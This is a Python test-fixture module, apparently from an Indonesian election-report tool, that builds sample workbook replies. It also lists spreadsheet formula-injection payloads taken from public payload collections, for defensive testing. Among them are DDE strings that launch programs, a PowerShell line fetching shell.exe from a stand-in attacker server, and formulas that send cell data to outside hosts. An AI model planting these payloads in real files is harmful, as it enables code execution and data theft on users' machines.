"""A reply to hang on any workbook, and the strings that make spreadsheet programs act."""

from __future__ import annotations

from jujur.forms.reply import CellMark, FindingLine, Reply, RowMark, Summary, TableMarks

# After payloadbox/csv-injection-payloads (Intruder/csv-payload.txt, MIT) and swisskyrepo/PayloadsAllTheThings
# (CSV Injection/README.md, MIT).
PAYLOADS = (
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    'DDE ("cmd";"/C calc";"!A0")A0',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
    '=HYPERLINK("http://example.org?leak="&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
)
NUMBER = "K-20240214-0007"


def summary(number: str = NUMBER, findings: tuple[FindingLine, ...] = ()) -> Summary:
    return Summary(
        government="PEMERINTAH KOTA PAGAR ALAM",
        desk="Desk Pemilu dan Pilkada",
        election="Pemilu 2024",
        is_demonstration=True,
        submission=number,
        correction_number=number,
        facts=(("Nomor kiriman", number), ("Nama berkas", "laporan.xlsx")),
        tiles=(("Baris dibaca", 2), ("Diterima", 1), ("Ditahan", 1)),
        verdict="1 dari 2 baris ditahan dan belum dihitung.",
        steps=("Periksa baris yang ditahan.",),
        findings=findings,
        findings_total=len(findings),
    )


def marks(sheet: str, head: int, first: int, column: int, *rows: RowMark) -> TableMarks:
    return TableMarks(sheet, head, first, column, rows)


def held(number: int, *cells: CellMark, reason: str = "Ditahan V09: ditemukan 1; seharusnya 2.") -> RowMark:
    return RowMark(number, "Ditahan", "held", reason, cells)


def accepted(number: int) -> RowMark:
    return RowMark(number, "Diterima", "accepted")


def reply(*tables: TableMarks, number: str = NUMBER) -> Reply:
    return Reply(summary(number), tables)
